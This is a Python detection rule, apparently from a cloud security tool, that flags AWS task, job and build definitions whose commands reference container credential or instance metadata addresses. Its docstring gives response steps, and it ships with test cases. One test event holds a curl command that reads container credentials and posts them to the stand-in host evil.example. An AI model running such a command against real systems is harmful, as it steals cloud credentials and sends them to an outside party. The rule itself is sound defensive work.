"""A container, build or function is told to read its own credentials.

What it does
------------
Reports task and job definitions, build scripts and start scripts that name the container's credential address or the instance's metadata.

Why it matters
--------------
A program gets its credentials from the SDK. A command that fetches them sends them somewhere.

How to respond
--------------
Stop the task, revoke the role's sessions, see who registered it.

When to allow it
----------------
Rarely: very old scripts.

References
----------
- https://attack.mitre.org/techniques/T1552/005/
- https://attack.mitre.org/techniques/T1525/
- https://docs.aws.amazon.com/AmazonECS/latest/developerguide/task-iam-roles.html
"""

from __future__ import annotations

from casemate.authoring.detection import detection, fires, quiet
from casemate.authoring.patterns import HOUR, Pattern, each
from casemate.authoring.query import event
from casemate.model.finding import CRITICAL


@detection(
    "task-reads-credentials",
    severity=CRITICAL,
    sources=["aws.cloudtrail"],
    tags=["attack.credential-access", "attack.execution", "attack.t1552.005", "attack.t1525"],
)
def detect() -> Pattern:
    made = event.action.is_(
        "RegisterTaskDefinition",
        "RunTask",
        "RegisterJobDefinition",
        "SubmitJob",
        "StartBuild",
        "UpdateProject",
        "CreateProject",
        "CreateLaunchTemplateVersion",
        "SendCommand",
    )
    request = "requestParameters"
    marks = ("AWS_CONTAINER_CREDENTIALS", "169.254.170.2", "169.254.169.254")
    found = (
        event.raw(f"{request}.containerDefinitions.command").contains(*marks)
        | event.raw(f"{request}.containerDefinitions.entryPoint").contains(*marks)
        | event.raw(f"{request}.overrides.containerOverrides.command").contains(*marks)
        | event.raw(f"{request}.containerProperties.command").contains(*marks)
        | event.raw(f"{request}.buildspecOverride").contains(*marks)
        | event.raw(f"{request}.source.buildspec").contains(*marks)
        | event.raw(f"{request}.parameters.commands").contains(*marks)
    )
    return each(made & found, by=(event.actor, event.account), every=HOUR)


CASES = [
    fires(
        """{"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/mallory", "accountId": "111122223333", "userName": "mallory"}, "eventTime": "2026-03-01T10:00:00Z", "eventSource": "ecs.amazonaws.com", "eventName": "RegisterTaskDefinition", "awsRegion": "eu-west-1", "sourceIPAddress": "198.51.100.7", "userAgent": "aws-cli/2.15.0", "requestParameters": {"family": "x", "containerDefinitions": [{"name": "x", "command": ["/bin/sh", "-c", "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://evil.example"]}]}, "responseElements": null, "eventID": "1", "recipientAccountId": "111122223333"}""",
    ),
    quiet(
        """{"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/mallory", "accountId": "111122223333", "userName": "mallory"}, "eventTime": "2026-03-01T10:00:00Z", "eventSource": "ecs.amazonaws.com", "eventName": "RegisterTaskDefinition", "awsRegion": "eu-west-1", "sourceIPAddress": "198.51.100.7", "userAgent": "aws-cli/2.15.0", "requestParameters": {"family": "x", "containerDefinitions": [{"name": "x", "command": ["python", "app.py"]}]}, "responseElements": null, "eventID": "1", "recipientAccountId": "111122223333"}""",
    ),
]
